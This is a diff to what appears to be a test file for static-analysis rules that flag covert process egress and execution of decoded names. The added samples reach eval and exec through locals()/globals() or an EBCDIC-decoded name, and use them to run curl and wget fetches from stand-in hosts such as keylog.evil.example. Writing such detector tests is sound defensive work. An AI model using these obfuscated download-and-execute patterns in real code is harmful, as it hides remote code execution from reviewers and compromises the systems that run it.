@@ -303,3 +303,12 @@ subprocess.run([sys.executable, "-c", "import requests; requests.post('https://p
 os.system("bash -c \"python3 -c 'import urllib.request; urllib.request.urlopen(\\\"https://bash-py.example.net\\\")'\"")
 # ok: covert.process-egress
 subprocess.run([sys.executable, "-c", "print('hello')"])
+
+# The builtins reached through locals()/globals(), and a name decoded from a bytes literal's code page.
+# ruleid: covert.exec-decoded host=keylog.evil.example
+vars(locals()["__builtins__"])["eval"]("os.popen('curl http://keylog.evil.example/k.py')")
+# ruleid: covert.exec-decoded host=globals.evil.example
+vars(globals()["__builtins__"])["exec"]("import os; os.system('wget http://globals.evil.example/x')")
+run_it = getattr(builtins, b"\x85\xa5\x81\x93".decode("cp1026"))
+# ruleid: covert.exec-decoded host=ebcdic.evil.example
+run_it("__import__('os').system('curl http://ebcdic.evil.example/a')")
